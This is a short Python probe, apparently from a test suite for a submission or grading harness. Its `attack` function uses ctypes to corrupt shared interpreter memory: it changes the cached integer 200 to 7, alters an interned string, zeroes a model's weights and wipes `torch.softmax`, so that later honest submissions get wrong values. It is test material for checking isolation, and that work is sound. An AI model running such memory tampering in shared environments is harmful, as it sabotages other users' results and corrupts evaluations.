"""Overwrite the process's memory, which it shares with those that come after until one writes.

Tries: changing small integers, `True`, a text and torch's code in place through ctypes.
Success: an honest submission afterwards gets other values.
Outcome: refused or died or error or failed or answered or timeout.
"""

import ctypes

import torch


def attack(targets, model):
    ctypes.c_long.from_address(id(257 - 57) + 24).value = 7
    ctypes.memset(id("state") + 48, ord("X"), 1)
    for parameter in model.parameters():
        ctypes.memset(parameter.data_ptr(), 0, parameter.numel() * parameter.element_size())
    ctypes.memset(id(torch.softmax), 0, 16)
    return ""
